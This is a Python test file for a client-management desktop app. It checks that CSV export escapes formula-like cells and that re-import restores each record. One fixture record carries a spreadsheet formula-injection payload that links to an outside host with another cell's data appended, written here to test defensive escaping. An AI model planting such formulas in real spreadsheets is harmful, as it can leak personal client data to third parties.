"""Exporting every client from the clients page against the real server, and reading the file
back with the desktop's own import into a second, empty studio: each record as it was. A cell a
spreadsheet would run as a formula (anyone may type a client's notes) is written inert."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from swan_desktop.core import client_csv
from swan_desktop.qt.clients.clients_page import ClientsPage
from tests.support.desktops import SignIn, desktops
from tests.support.server import start_server

#: Records with what a CSV must survive: commas, quotes, a line break, accents, no email.
RECORDS: tuple[dict[str, Any], ...] = (
    {"name": "Anna Berg", "email": "anna@example.org", "phone": "+49 30 1234", "birthday": "1990-04-01",
     "emergency_contact": "Jo Berg, +49 30 9", "notes": 'left knee; "no jumping"\nsince May',
     "tags": ["morning", "rehab"], "consent": {"reminders": True, "marketing": False}},
    {"name": "Conceição Simões", "email": "", "phone": "", "birthday": None, "emergency_contact": "",
     "notes": "", "tags": [], "consent": {"reminders": False, "marketing": True}},
    {"name": "Bruno Diaz", "email": "bruno@example.org", "phone": "912 345 678", "birthday": None,
     "emergency_contact": "", "notes": "", "tags": ["evening"], "consent": {"reminders": True,
                                                                           "marketing": True}},
    {"name": "@dora", "email": "", "phone": "", "birthday": None, "emergency_contact": "-",
     "notes": '=HYPERLINK("http://example.net/?"&B2,"open")', "tags": [],
     "consent": {"reminders": False, "marketing": False}},
)


async def test_every_client_exported_is_read_back_by_the_import_as_it_was(
        qtbot, on_server: SignIn, tmp_path: Path) -> None:
    boss = await on_server("boss")
    made = [await boss.clients.create(record) for record in RECORDS]
    await boss.clients.update(made[2].id, {"archived": True})
    page = ClientsPage(boss.clients, lambda: boss.store.directory, is_admin=True, can_edit=True)
    qtbot.addWidget(page)
    told: list[tuple[str, bool]] = []
    page.told.connect(lambda text, error: told.append((text, error)))
    path = tmp_path / "clients.csv"
    assert await page.export_to(path) == len(RECORDS), "archived clients too"
    assert told == [(f"{len(RECORDS)} clients exported to {path}.", False)]

    headers, rows = client_csv.read(path.read_text(encoding="utf-8-sig"))
    assert tuple(headers) == client_csv.EXPORT_HEADERS
    assert [r[-2] for r in rows] == ["no", "no", "yes", "no"], "archived said in its column"
    assert rows[0][2] == "'+49 30 1234", "a phone starting with + is text to a spreadsheet"
    assert (rows[3][0], rows[3][4]) == ("'@dora", "'-")
    assert rows[3][5] == "'" + RECORDS[3]["notes"], "the formula is text, not run"
    built = client_csv.build(rows, client_csv.guess(headers))
    assert all(r.ok for r in built), [r.problems for r in built]
    other = start_server(tmp_path / "other.sqlite3", demo=False)
    try:
        async with desktops(other.url, tmp_path / "other-pcs") as sign_in:
            elsewhere = await sign_in("boss")
            assert await elsewhere.clients.import_clients([r.record for r in built]) == (len(RECORDS), 0)
            found = await elsewhere.clients.search("", limit=100)
            back = {f.client.name: f.client.editable_wire() for f in found.clients}
    finally:
        other.stop()
    assert back == {r["name"]: r for r in RECORDS}
    page.stop()


async def test_only_an_admin_has_the_export(qtbot, on_server: SignIn) -> None:
    ana = await on_server("ana")
    page = ClientsPage(ana.clients, lambda: ana.store.directory, is_admin=False, can_edit=True)
    qtbot.addWidget(page)
    assert page.export_button.isHidden()
    page.stop()
